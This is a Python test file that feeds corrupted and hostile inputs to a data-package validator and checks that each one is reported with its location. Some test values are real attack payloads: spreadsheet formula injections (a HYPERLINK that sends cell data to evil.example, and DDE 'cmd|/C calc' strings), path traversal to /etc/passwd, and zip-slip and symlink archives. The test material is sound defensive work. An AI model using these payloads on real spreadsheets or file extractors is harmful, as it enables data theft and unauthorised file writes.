"""Hostile and broken input: a corpus of corrupted packages, each of which `make-data validate` must
report with a clear, located message and exit 1 (invalid) or 2 (unreadable), never a traceback,
never an internal error (exit 3), never a crash of the CSV reader and never a modified input file.

Every case is a small function that corrupts a fresh copy of the package and says what it expects:
the exit code and, for exit 1, the findings that must be among the reported errors (table, file,
CSV line, column, rule). After editing a CSV the case re-hashes the descriptor (bytes + sha256), so
it tests the intended error rather than just the hash; dedicated cases break the hash and byte count.
"""

from __future__ import annotations

import json
import stat
import subprocess
import sys
import tempfile
import time
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from banjska.validate.core import validate_package

from corrupt import (
    Pkg,
    copy_package,
    corrupt_member_data,
    member,
    no_unraisable,
    patch_central_directory,
    tree_digest,
    zip_package,
)
from pkgtools import read_rows

# Spreadsheet formula injection: text cells of this dataset must not start with these characters.
FORMULA_RULE = "dataset:no_formula_cells"
# Rules whose findings are about one row: they must carry a line number (and most a column).
ROW_RULES = ("type-error", "constraint-error", "unique-error", "primary-key", "foreign-key", "extra-cell",
             "missing-cell", "blank-row", "dataset:")


@dataclass
class Want:
    """A finding that must be in the report; None means 'any'. `rule` may list alternatives with '|'."""

    table: str
    rule: str
    line: int | None = None
    column: str | None = None
    file: str | None = None  # default: the table's own file (data/<table>.csv)

    def matches(self, e: dict) -> bool:
        file = self.file if self.file is not None else (f"data/{self.table}.csv" if self.table else None)
        return (e["table"] == self.table and e["rule"] in self.rule.split("|")
                and (self.line is None or e["line"] == self.line)
                and (self.column is None or e["column"] == self.column)
                and (file is None or e["file"] == file))


@dataclass
class Expect:
    exit: int
    wants: list[Want] = field(default_factory=list)
    stderr: list[str] = field(default_factory=list)   # fragments of the one `Error:` line (exit 2)
    target: Path | None = None                        # what to validate (default: the package directory)
    absent: list[Path] = field(default_factory=list)  # files that must not exist after validation


CASES: list[tuple[str, Callable[[Pkg, Path], Expect]]] = []


def case(name: str):
    def register(fn):
        CASES.append((name, fn))
        return fn
    return register


# --- row shape and quoting --------------------------------------------------------------------------

@case("ragged-extra-cell")
def _(p, tmp):
    p.replace_bytes("casualties", b"one police officer,", b"one police officer,surplus,")
    return Expect(1, [Want("casualties", "extra-cell", line=2)])


@case("ragged-missing-cell")
def _(p, tmp):
    p.replace_bytes("casualties", b"exact,three attackers,", b"exact,three attackers")
    return Expect(1, [Want("casualties", "missing-cell", line=3)])


@case("ragged-row-then-type-error-keeps-line-numbers")
def _(p, tmp):
    rows = p.rows("actors")
    rows[3].append("surplus")                      # line 4 has an extra cell ...
    rows[6][rows[0].index("named")] = "maybe"      # ... and line 7, below it, a bad boolean
    p.write_rows("actors", rows)
    return Expect(1, [Want("actors", "extra-cell", line=4), Want("actors", "type-error", line=7, column="named")])


@case("ragged-row-in-large-table")
def _(p, tmp):
    rows = p.rows("evidence")
    del rows[60][-1]
    p.write_rows("evidence", rows)
    return Expect(1, [Want("evidence", "missing-cell", line=61)])


@case("unclosed-quote-mid-file")
def _(p, tmp):
    line = p.replace_bytes("casualties", b",one police officer,", b',"one police officer,')
    return Expect(1, [Want("casualties", "source-error|missing-cell|extra-cell", line=line)])


@case("unclosed-quote-last-line")
def _(p, tmp):
    data = p.raw("casualties")
    p.write_raw("casualties", data + b'x,"unterminated\n')
    return Expect(1, [Want("casualties", "source-error|missing-cell|extra-cell", line=data.count(b"\n") + 1)])


@case("lone-quote-line")
def _(p, tmp):
    data = p.raw("places")
    p.write_raw("places", data + b'"\n')
    return Expect(1, [Want("places", "source-error|missing-cell", line=data.count(b"\n") + 1)])


@case("blank-row")
def _(p, tmp):
    line = p.replace_bytes("actors", b"\nwhite-house,", b"\n\nwhite-house,")
    return Expect(1, [Want("actors", "blank-row", line=line + 1)])


# --- encoding and line ends ----------------------------------------------------------------------

@case("non-utf8-byte")
def _(p, tmp):
    line = p.replace_bytes("casualties", b"three attackers", b"three \xff\xfe attackers")
    return Expect(1, [Want("casualties", "encoding-error", line=line)])


@case("latin1-accent")
def _(p, tmp):
    line = p.replace_bytes("actors", b"White House", b"White H\xe9use")
    return Expect(1, [Want("actors", "encoding-error", line=line)])


@case("truncated-utf8-at-eof")
def _(p, tmp):
    data = p.raw("places")
    p.write_raw("places", data + b"zz,Zve\xc4,village,kosovo,XK,")
    return Expect(1, [Want("places", "encoding-error", line=data.count(b"\n") + 1)])


@case("ragged-row-with-non-utf8")
def _(p, tmp):
    data = p.raw("places")
    p.write_raw("places", data + b"zz,Zve\xc4\n")
    return Expect(1, [Want("places", "encoding-error|missing-cell", line=data.count(b"\n") + 1)])


@case("utf8-bom")
def _(p, tmp):
    p.write_raw("casualties", b"\xef\xbb\xbf" + p.raw("casualties"))
    return Expect(1, [Want("casualties", "encoding-error", line=1)])


@case("crlf-line-ends")
def _(p, tmp):
    p.write_raw("events", p.raw("events").replace(b"\n", b"\r\n"))
    return Expect(1, [Want("events", "format-error", line=1)])


@case("cr-only-line-ends")
def _(p, tmp):
    p.write_raw("casualties", p.raw("casualties").replace(b"\n", b"\r"))
    return Expect(1, [Want("casualties", "format-error", line=1)])


# --- header -----------------------------------------------------------------------------------------

def _drop_column(p: Pkg, table: str, column: str) -> None:
    rows = p.rows(table)
    i = rows[0].index(column)
    p.write_rows(table, [r[:i] + r[i + 1:] for r in rows])


@case("missing-column")
def _(p, tmp):
    _drop_column(p, "casualties", "count_raw")
    return Expect(1, [Want("casualties", "missing-label", line=1, column="count_raw")])


@case("extra-column")
def _(p, tmp):
    rows = p.rows("casualties")
    p.write_rows("casualties", [r + (["surplus"] if i == 0 else ["x"]) for i, r in enumerate(rows)])
    return Expect(1, [Want("casualties", "extra-label", line=1, column="surplus")])


@case("reordered-columns")
def _(p, tmp):
    rows = p.rows("casualties")
    a, b = rows[0].index("count"), rows[0].index("outcome")
    for r in rows:
        r[a], r[b] = r[b], r[a]
    p.write_rows("casualties", rows)
    return Expect(1, [Want("casualties", "incorrect-label", line=1, column="count")])


@case("duplicate-header-label")
def _(p, tmp):
    p.set_cell("casualties", 1, "count_low", "count")
    return Expect(1, [Want("casualties", "duplicate-label", line=1, column="count"),
                      Want("casualties", "missing-label", line=1, column="count_low")])


@case("blank-header-label")
def _(p, tmp):
    p.set_cell("casualties", 1, "notes", "")
    return Expect(1, [Want("casualties", "blank-label", line=1)])


# --- types and constraints -------------------------------------------------------------------------

@case("type-error-integer")
def _(p, tmp):
    p.set_cell("casualties", 3, "count", "three")
    return Expect(1, [Want("casualties", "type-error", line=3, column="count")])


@case("type-error-impossible-date")
def _(p, tmp):
    p.set_cell("events", 2, "date", "2023-02-30")
    return Expect(1, [Want("events", "type-error", line=2, column="date")])


@case("type-error-time")
def _(p, tmp):
    p.set_cell("events", 2, "time_local", "25:00:00")
    return Expect(1, [Want("events", "type-error", line=2, column="time_local")])


@case("type-error-boolean")
def _(p, tmp):
    p.set_cell("actors", 5, "named", "yes")
    return Expect(1, [Want("actors", "type-error", line=5, column="named")])


@case("enum-violation")
def _(p, tmp):
    p.set_cell("casualties", 2, "outcome", "wounded")
    return Expect(1, [Want("casualties", "constraint-error:enum", line=2, column="outcome")])


@case("enum-violation-integer")
def _(p, tmp):
    p.set_cell("events", 2, "geo_precision", "4")
    return Expect(1, [Want("events", "constraint-error:enum", line=2, column="geo_precision")])


@case("pattern-violation")
def _(p, tmp):
    p.set_cell("places", 2, "country_code", "xk")
    return Expect(1, [Want("places", "constraint-error:pattern", line=2, column="country_code")])


@case("required-value-empty")
def _(p, tmp):
    p.set_cell("casualties", 2, "count_raw", "")
    return Expect(1, [Want("casualties", "constraint-error:required", line=2, column="count_raw")])


@case("range-violation")
def _(p, tmp):
    p.set_cell("casualties", 2, "count", "-1")
    return Expect(1, [Want("casualties", "constraint-error:range", line=2, column="count")])


# --- keys -------------------------------------------------------------------------------------------

@case("duplicate-primary-key")
def _(p, tmp):
    first = p.cell("places", 2, "place_id")
    p.set_cell("places", 4, "place_id", first)
    return Expect(1, [Want("places", "primary-key|unique-error", line=4, column="place_id"),
                      Want("places", "primary-key|unique-error", line=2, column="place_id")])


@case("missing-primary-key")
def _(p, tmp):
    p.set_cell("places", 4, "place_id", "")
    return Expect(1, [Want("places", "primary-key", line=4, column="place_id"),
                      Want("places", "constraint-error:required", line=4, column="place_id")])


@case("broken-foreign-key")
def _(p, tmp):
    p.set_cell("casualties", 2, "event_id", "no-such-event")
    return Expect(1, [Want("casualties", "foreign-key", line=2, column="event_id")])


@case("broken-self-reference")
def _(p, tmp):
    line = p.line_where("actors", "actor_id", "white-house")
    p.set_cell("actors", line, "affiliation_actor_id", "white-hous")
    return Expect(1, [Want("actors", "foreign-key", line=line, column="affiliation_actor_id")])


@case("deleted-parent-row")
def _(p, tmp):
    rows = p.rows("places")
    gone = rows[0].index("place_id")
    victim = p.cell("events", 2, "place_id")
    p.write_rows("places", [r for r in rows if r[gone] != victim])
    return Expect(1, [Want("events", "foreign-key", line=2, column="place_id")])


# --- dataset rules ----------------------------------------------------------------------------------

@case("quote-not-in-source")
def _(p, tmp):
    p.set_cell("evidence", 2, "quote", p.cell("evidence", 2, "quote").replace("Kosovo", "Serbia"))
    return Expect(1, [Want("evidence", "dataset:evidence_matches_source", line=2, column="quote")])


@case("quote-offsets-shifted")
def _(p, tmp):
    p.set_cell("evidence", 5, "start", str(int(p.cell("evidence", 5, "start")) + 1))
    return Expect(1, [Want("evidence", "dataset:evidence_matches_source", line=5, column="quote")])


@case("article-tampered")
def _(p, tmp):
    p.replace_bytes("article-src-000", b"White House", b"White Hou5e")
    return Expect(1, [Want("sources", "dataset:source_hash_matches_article", line=2, column="sha256"),
                      Want("evidence", "dataset:evidence_matches_source", column="quote")])


@case("formula-equals")
def _(p, tmp):
    p.set_cell("events", 3, "description", '=HYPERLINK("http://evil.example/?"&A1,"click")')
    return Expect(1, [Want("events", FORMULA_RULE, line=3, column="description")])


@case("formula-plus")
def _(p, tmp):
    p.set_cell("actors", 4, "name", "+cmd|' /C calc'!A0")
    return Expect(1, [Want("actors", FORMULA_RULE, line=4, column="name")])


@case("formula-minus")
def _(p, tmp):
    p.set_cell("casualties", 2, "count_raw", "-2+3+cmd|' /C calc'!A0")
    return Expect(1, [Want("casualties", FORMULA_RULE, line=2, column="count_raw")])


@case("formula-at")
def _(p, tmp):
    p.set_cell("statements", 6, "notes", "@SUM(1+1)*cmd|' /C calc'!A0")
    return Expect(1, [Want("statements", FORMULA_RULE, line=6, column="notes")])


# --- hash and size ----------------------------------------------------------------------------------

@case("wrong-hash-after-edit")
def _(p, tmp):
    p.replace_bytes("places", b"Zvecan", b"Zvecam", rehash=False)
    return Expect(1, [Want("places", "hash-count")])


@case("wrong-hash-declared")
def _(p, tmp):
    doc = p.descriptor()
    p.resource("units", doc)["hash"] = "sha256:" + "0" * 64
    p.write_descriptor(doc)
    return Expect(1, [Want("units", "hash-count")])


@case("wrong-byte-count")
def _(p, tmp):
    doc = p.descriptor()
    p.resource("events", doc)["bytes"] += 1
    p.write_descriptor(doc)
    return Expect(1, [Want("events", "byte-count")])


# --- descriptor ---------------------------------------------------------------------------------------

@case("descriptor-invalid-json")
def _(p, tmp):
    text = p.descriptor_path.read_text(encoding="utf-8")
    p.descriptor_path.write_text(text.replace('"resources"', '"resources",', 1), encoding="utf-8")
    return Expect(2, stderr=["datapackage.json", "invalid JSON at line"])


@case("descriptor-truncated")
def _(p, tmp):
    p.descriptor_path.write_bytes(p.descriptor_path.read_bytes()[:500])
    return Expect(2, stderr=["datapackage.json", "invalid JSON"])


@case("descriptor-not-an-object")
def _(p, tmp):
    p.descriptor_path.write_text("[1, 2, 3]\n", encoding="utf-8")
    return Expect(2, stderr=["datapackage.json", "not a JSON object"])


@case("descriptor-not-utf8")
def _(p, tmp):
    p.descriptor_path.write_bytes(p.descriptor_path.read_bytes().replace(b"Banjska", b"Banjsk\xe1", 1))
    return Expect(2, stderr=["datapackage.json", "UTF-8"])


@case("descriptor-missing")
def _(p, tmp):
    p.descriptor_path.unlink()
    return Expect(2, stderr=["no datapackage.json"])


@case("descriptor-without-resources")
def _(p, tmp):
    doc = p.descriptor()
    del doc["resources"]
    p.write_descriptor(doc)
    return Expect(1, [Want("", "package-error", file="datapackage.json")])


@case("resource-without-name")
def _(p, tmp):
    doc = p.descriptor()
    del p.resource("casualties", doc)["name"]
    p.write_descriptor(doc)
    return Expect(1, [Want("", "resource-error", file="datapackage.json")])


def _set_path(p: Pkg, table: str, path: str, key: str = "path") -> None:
    doc = p.descriptor()
    p.resource(table, doc)[key] = path
    p.write_descriptor(doc)


@case("path-dotdot")
def _(p, tmp):
    (tmp / "outside.csv").write_bytes(p.raw("casualties"))  # a tempting target next to the package
    _set_path(p, "casualties", "../outside.csv")
    return Expect(1, [Want("casualties", "unsafe-path", file="datapackage.json")])


@case("path-dotdot-inside")
def _(p, tmp):
    _set_path(p, "casualties", "data/../../outside.csv")
    return Expect(1, [Want("casualties", "unsafe-path", file="datapackage.json")])


@case("path-dotdot-backslash")
def _(p, tmp):
    _set_path(p, "casualties", "data\\..\\..\\outside.csv")
    return Expect(1, [Want("casualties", "unsafe-path", file="datapackage.json")])


@case("path-absolute")
def _(p, tmp):
    _set_path(p, "casualties", "/etc/passwd")
    return Expect(1, [Want("casualties", "unsafe-path", file="datapackage.json")])


@case("path-windows-drive")
def _(p, tmp):
    _set_path(p, "casualties", "C:\\Windows\\win.ini")
    return Expect(1, [Want("casualties", "unsafe-path", file="datapackage.json")])


@case("path-url")
def _(p, tmp):
    _set_path(p, "casualties", "https://example.com/casualties.csv")
    return Expect(1, [Want("casualties", "unsafe-path", file="datapackage.json")])


@case("schema-path-escaping")
def _(p, tmp):
    _set_path(p, "casualties", "../schemas/casualties.schema.json", key="schema")
    return Expect(1, [Want("casualties", "unsafe-path", file="datapackage.json")])


# --- missing, empty and unreadable files ----------------------------------------------------------------

@case("missing-data-file")
def _(p, tmp):
    p.path_of("casualties").unlink()
    return Expect(1, [Want("casualties", "scheme-error")])


@case("empty-data-file")
def _(p, tmp):
    p.write_raw("casualties", b"")
    return Expect(1, [Want("casualties", "source-error")])


@case("header-only-data-file")
def _(p, tmp):
    p.write_raw("casualties", p.raw("casualties").split(b"\n")[0] + b"\n")
    return Expect(1, [Want("casualties", "blank-table")])


@case("missing-schema-file")
def _(p, tmp):
    (p.root / "schemas/casualties.schema.json").unlink()
    return Expect(1, [Want("casualties", "schema-error", file="schemas/casualties.schema.json")])


@case("invalid-schema-json")
def _(p, tmp):
    path = p.root / "schemas/casualties.schema.json"
    path.write_bytes(path.read_bytes()[:-40])
    return Expect(1, [Want("casualties", "schema-error", file="schemas/casualties.schema.json")])


@case("missing-package-directory")
def _(p, tmp):
    return Expect(2, stderr=["no data package"], target=tmp / "nowhere")


# --- zips -----------------------------------------------------------------------------------------------

def _escape_name() -> str:
    return f"banjska-hostile-{uuid.uuid4().hex}.txt"


@case("zip-member-dotdot")
def _(p, tmp):
    name = _escape_name()
    z = zip_package(p.root, tmp / "evil.zip", extra=[(member("../" + name), b"pwned")])
    return Expect(2, stderr=["evil.zip", "escape"], target=z,
                  absent=[Path(tempfile.gettempdir()) / name, tmp / name, tmp.parent / name])


@case("zip-member-dotdot-nested")
def _(p, tmp):
    name = _escape_name()
    z = zip_package(p.root, tmp / "evil.zip", extra=[(member("pkg/data/../../../" + name), b"pwned")])
    return Expect(2, stderr=["evil.zip", "escape"], target=z,
                  absent=[Path(tempfile.gettempdir()) / name, tmp / name, tmp.parent / name])


@case("zip-member-absolute")
def _(p, tmp):
    target = Path(tempfile.gettempdir()) / _escape_name()
    z = zip_package(p.root, tmp / "evil.zip", extra=[(member(target.as_posix()), b"pwned")])
    return Expect(2, stderr=["evil.zip", "escape"], target=z, absent=[target])


@case("zip-member-backslash-dotdot")
def _(p, tmp):
    name = _escape_name()
    z = zip_package(p.root, tmp / "evil.zip", extra=[(member("..\\" + name), b"pwned")])
    return Expect(2, stderr=["evil.zip", "escape"], target=z, absent=[Path(tempfile.gettempdir()) / name, tmp / name])


@case("zip-member-symlink")
def _(p, tmp):
    z = zip_package(p.root, tmp / "evil.zip", extra=[(member("pkg/data/link.csv", stat.S_IFLNK | 0o777), b"/etc/passwd")])
    return Expect(2, stderr=["evil.zip", "symbolic link"], target=z)


@case("zip-data-file-is-symlink")
def _(p, tmp):
    p.path_of("casualties").unlink()
    z = zip_package(p.root, tmp / "evil.zip",
                    extra=[(member("pkg/data/casualties.csv", stat.S_IFLNK | 0o777), b"/etc/passwd")])
    return Expect(2, stderr=["evil.zip", "symbolic link"], target=z)


@case("zip-not-a-zip")
def _(p, tmp):
    z = tmp / "broken.zip"
    z.write_bytes(b"this is not a zip archive\n")
    return Expect(2, stderr=["broken.zip", "zip"], target=z)


@case("zip-truncated")
def _(p, tmp):
    z = zip_package(p.root, tmp / "whole.zip")
    cut = tmp / "broken.zip"
    cut.write_bytes(z.read_bytes()[: z.stat().st_size // 2])
    z.unlink()
    return Expect(2, stderr=["broken.zip", "zip"], target=cut)


@case("zip-without-descriptor")
def _(p, tmp):
    p.descriptor_path.unlink()
    z = zip_package(p.root, tmp / "nodesc.zip")
    return Expect(2, stderr=["nodesc.zip", "datapackage.json"], target=z)


@case("zip-corrupt-member-data")
def _(p, tmp):
    z = zip_package(p.root, tmp / "broken.zip")
    corrupt_member_data(z, "pkg/data/evidence.csv")
    return Expect(2, stderr=["broken.zip"], target=z)


@case("zip-bad-crc-stored-member")
def _(p, tmp):
    z = zip_package(p.root, tmp / "broken.zip", compression=zipfile.ZIP_STORED)
    corrupt_member_data(z, "pkg/data/evidence.csv")
    return Expect(2, stderr=["broken.zip"], target=z)


@case("zip-encrypted-member")
def _(p, tmp):
    z = zip_package(p.root, tmp / "locked.zip")
    patch_central_directory(z, "pkg/data/casualties.csv", flags=0x1)
    return Expect(2, stderr=["locked.zip"], target=z)


@case("zip-unsupported-compression")
def _(p, tmp):
    z = zip_package(p.root, tmp / "odd.zip")
    patch_central_directory(z, "pkg/data/casualties.csv", method=99)
    return Expect(2, stderr=["odd.zip"], target=z)


@case("zip-with-invalid-data")
def _(p, tmp):
    p.set_cell("casualties", 3, "count", "three")
    z = zip_package(p.root, tmp / "bad.zip")
    return Expect(1, [Want("casualties", "type-error", line=3, column="count")], target=z)


# --- the tests ------------------------------------------------------------------------------------------

def run_case(fn, tmp_path: Path, cli, fmt: str = "json"):
    pkg = Pkg(copy_package(tmp_path / "pkg"))
    expect = fn(pkg, tmp_path)
    target = expect.target or pkg.root
    before = tree_digest(tmp_path)
    with no_unraisable():
        res = cli("validate", target, "--format", fmt)
    assert tree_digest(tmp_path) == before, "validation modified, added or removed files"
    for path in expect.absent:
        assert not path.exists(), f"{path} was written outside the extraction directory"
    return expect, res


def located(errors: list[dict]) -> str:
    return "\n".join(f"  {e['file'] or e['table']}:{e['line']} column {e['column']!r} [{e['rule']}] {e['message']}"
                     for e in errors[:40])


def assert_report(expect: Expect, res) -> None:
    out = res.stdout + res.stderr
    assert "internal error" not in out, out[-3000:]
    assert "Traceback" not in out, out[-3000:]
    assert res.exit_code == expect.exit, out[-3000:]
    if expect.exit == 2:  # unreadable: no report, but `--format json` still prints one document saying so
        doc = json.loads(res.stdout)
        assert (doc["valid"], doc["readable"], doc["exit_code"]) == (False, False, 2), doc
        lines = res.stderr.strip().splitlines()
        assert doc["error"] == lines[0].removeprefix("Error: ")
        assert len(lines) == 1 and lines[0].startswith("Error: "), res.stderr
        for fragment in expect.stderr:
            assert fragment in lines[0], f"{fragment!r} not in {lines[0]!r}"
        return
    doc = json.loads(res.stdout)
    assert doc["valid"] is False and doc["errors"], doc
    for want in expect.wants:
        assert any(want.matches(e) for e in doc["errors"]), f"missing {want}; reported:\n{located(doc['errors'])}"
    for e in doc["errors"]:
        assert e["message"] and e["rule"], e
        assert e["file"] or e["table"], f"unlocated finding {e}"
        if e["rule"].startswith(ROW_RULES):
            assert e["file"] and isinstance(e["line"], int) and e["line"] >= 1, f"row finding without a line: {e}"


@pytest.mark.parametrize("fn", [fn for _, fn in CASES], ids=[name for name, _ in CASES])
def test_hostile_input_is_reported_located(fn, tmp_path, cli):
    expect, res = run_case(fn, tmp_path, cli)
    assert_report(expect, res)


def test_the_corpus_is_large_and_distinct():
    names = [name for name, _ in CASES]
    assert len(names) >= 30 and len(set(names)) == len(names)


TEXT_CASES = {name: fn for name, fn in CASES if name in {
    "type-error-integer", "enum-violation", "ragged-extra-cell", "broken-foreign-key", "non-utf8-byte",
    "quote-not-in-source", "wrong-byte-count", "path-dotdot", "missing-column"}}


@pytest.mark.parametrize("name", sorted(TEXT_CASES))
def test_text_report_names_file_line_column_and_rule(name, tmp_path, cli):
    expect, res = run_case(TEXT_CASES[name], tmp_path, cli, fmt="text")
    assert "Traceback" not in res.stdout + res.stderr and "internal error" not in res.stderr
    assert res.exit_code == 1
    assert res.stdout.startswith("invalid: ")
    for want in expect.wants:
        loc = want.file if want.file is not None else f"data/{want.table}.csv"
        if want.line is not None:
            loc += f":{want.line}"
        if want.column:
            loc += f" column {want.column}"
        assert f"{loc}: [{want.rule}]" in res.stdout, res.stdout[:3000]


def test_github_report_annotates_file_and_line(tmp_path, cli):
    fn = dict(CASES)["type-error-integer"]
    expect, res = run_case(fn, tmp_path, cli, fmt="github")
    assert res.exit_code == 1
    assert "::error file=data/casualties.csv,line=3,title=casualties%3A type-error::column count:" in res.stdout


@pytest.mark.parametrize("name", ["ragged-row-with-non-utf8", "header-only-data-file", "zip-encrypted-member"])
def test_real_process_prints_no_traceback(name, tmp_path):
    """The installed command, outside any test harness: stderr is one `Error:` line at most."""
    pkg = Pkg(copy_package(tmp_path / "pkg"))
    expect = dict(CASES)[name](pkg, tmp_path)
    proc = subprocess.run([sys.executable, "-m", "banjska", "validate", str(expect.target or pkg.root)],
                          capture_output=True, text=True, timeout=120)
    assert "Traceback" not in proc.stderr and "Exception ignored" not in proc.stderr, proc.stderr[-3000:]
    assert proc.returncode == expect.exit, proc.stdout[-2000:] + proc.stderr[-2000:]


# --- formula injection: only a leading =, +, -, @ in text is refused ----------------------------------

def test_formula_characters_inside_text_are_fine(tmp_path, cli):
    pkg = Pkg(copy_package(tmp_path / "pkg"))
    pkg.set_cell("events", 3, "notes", "a=b+c-d@e, 50% - see 'x'")
    pkg.set_cell("event_actors", 2, "size", "+30")  # an integer is not text: no formula check for its sign
    res = cli("validate", pkg.root, "--format", "json")
    assert res.exit_code == 0, res.stdout[-3000:]


# --- zips that must work ---------------------------------------------------------------------------------

@pytest.mark.parametrize("prefix", ["", "pkg/"], ids=["flat", "in-folder"])
def test_valid_zip_validates_and_leaves_nothing_behind(prefix, tmp_path, cli, monkeypatch):
    pkg = copy_package(tmp_path / "pkg")
    z = zip_package(pkg, tmp_path / "release.zip", prefix=prefix)
    scratch = tmp_path / "scratch"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # the extraction goes here, and must be cleaned up
    before = tree_digest(tmp_path)
    res = cli("validate", z, "--format", "json")
    assert res.exit_code == 0, res.stdout[-3000:] + res.stderr
    assert json.loads(res.stdout)["valid"] is True
    assert tree_digest(tmp_path) == before
    assert list(scratch.iterdir()) == [], "the temporary extraction was not removed"


def test_escaping_zip_writes_nothing_anywhere(tmp_path, cli, monkeypatch):
    """Even if a check were skipped, extraction happens under a scratch dir we watch: nothing may appear."""
    pkg = copy_package(tmp_path / "pkg")
    scratch = tmp_path / "a" / "b"
    scratch.mkdir(parents=True)
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    name = _escape_name()
    z = zip_package(pkg, tmp_path / "evil.zip",
                    extra=[(member("pkg/ok.txt"), b"fine"), (member("../" + name), b"x"), (member("../../" + name), b"x")])
    before = tree_digest(tmp_path)
    res = cli("validate", z)
    assert res.exit_code == 2 and "Traceback" not in res.stderr
    assert tree_digest(tmp_path) == before
    assert not list(scratch.iterdir())


# --- a huge field ----------------------------------------------------------------------------------------

HUGE = 20_000_000


def test_huge_text_field_is_valid_and_fast(tmp_path, cli):
    """A 20 MB cell in a free-text field without maxLength is valid (Python's csv module would refuse it)."""
    pkg = Pkg(copy_package(tmp_path / "pkg"))
    pkg.set_cell("events", 2, "notes", "x" * HUGE)
    before = tree_digest(tmp_path)
    start = time.perf_counter()
    res = cli("validate", pkg.root, "--format", "json")
    assert time.perf_counter() - start < 60
    assert res.exit_code == 0, res.stdout[-3000:] + res.stderr
    assert json.loads(res.stdout)["rows_checked"]["events"] == len(read_rows(pkg.root / "data" / "events.csv")[1])
    assert tree_digest(tmp_path) == before


def test_huge_bad_field_is_located_and_the_report_stays_small(tmp_path, cli):
    """A 20 MB quote that is not in the article is reported at its cell; no report echoes 20 MB back."""
    pkg = Pkg(copy_package(tmp_path / "pkg"))
    pkg.set_cell("evidence", 2, "quote", "x" * HUGE)
    for fmt in ("text", "json", "github"):
        res = cli("validate", pkg.root, "--format", fmt)
        assert res.exit_code == 1, res.stdout[-2000:]
        assert "Traceback" not in res.stdout + res.stderr
        assert "data/evidence.csv" in res.stdout
        assert len(res.stdout) < 100_000, f"{fmt} report is {len(res.stdout)} characters long"


def test_hash_issues_keep_their_place_and_count_under_max_errors(tmp_path):
    """Hashes are verified while the checks run; their issues still come first (file before rows) and
    count towards --max-errors exactly as if they had been awaited."""
    p = Pkg(copy_package(tmp_path / "pkg"))
    p.replace_bytes("places", b"Zvecan", b"Zvecam", rehash=False)
    p.set_cell("events", 2, "date", "2023-9-24")
    p.set_cell("events", 3, "date", "2023-9-25")
    full = validate_package(p.root, max_errors=1000)
    rules = [(i.table, i.rule) for i in full.issues]
    assert rules.index(("places", "hash-count")) < rules.index(("events", "type-error")), rules
    assert full.total == len(full.issues) >= 3
    assert full.counts[("places", "", "hash-count")] == 1 and full.counts[("events", "date", "type-error")] == 2
    for cut in range(1, len(full.issues) + 1):
        part = validate_package(p.root, max_errors=cut)
        assert part.issues == full.issues[:cut] and part.total == full.total
        assert part.truncated == (cut < full.total)
        assert part.counts == full.counts and sum(part.counts.values()) == part.total


MAPPED_CASES = {name: fn for name, fn in CASES if name in {
    "ragged-extra-cell", "ragged-row-with-non-utf8", "unclosed-quote-mid-file", "non-utf8-byte",
    "truncated-utf8-at-eof", "latin1-accent", "utf8-bom", "crlf-line-ends", "cr-only-line-ends", "blank-row",
    "empty-data-file", "header-only-data-file", "wrong-hash-after-edit", "wrong-byte-count",
    "quote-not-in-source", "article-tampered", "formula-at"}}  # zip members are read, never mapped


@pytest.mark.parametrize("name", sorted(MAPPED_CASES))
def test_memory_mapped_files_give_the_same_report(name, tmp_path, cli, monkeypatch):
    """Large files are memory-mapped rather than read (package/reader.py). With every file mapped, each
    byte-level corruption is reported exactly as when the files are read, and nothing is modified."""
    import banjska.package.reader as reader

    _, read = run_case(MAPPED_CASES[name], tmp_path / "read", cli)
    monkeypatch.setattr(reader, "MAP_AT", 1)
    mapped = []
    real = reader.DirSource.data
    monkeypatch.setattr(reader.DirSource, "data", lambda self, rel: mapped.append(real(self, rel)) or mapped[-1])
    _, res = run_case(MAPPED_CASES[name], tmp_path / "mapped", cli)
    assert any(not isinstance(data, bytes) for data in mapped), "no file was memory-mapped"
    same = lambda text: text.replace(str(tmp_path / "mapped"), str(tmp_path / "read"))  # noqa: E731
    assert (res.exit_code, same(res.stdout), same(res.stderr)) == (read.exit_code, read.stdout, read.stderr)
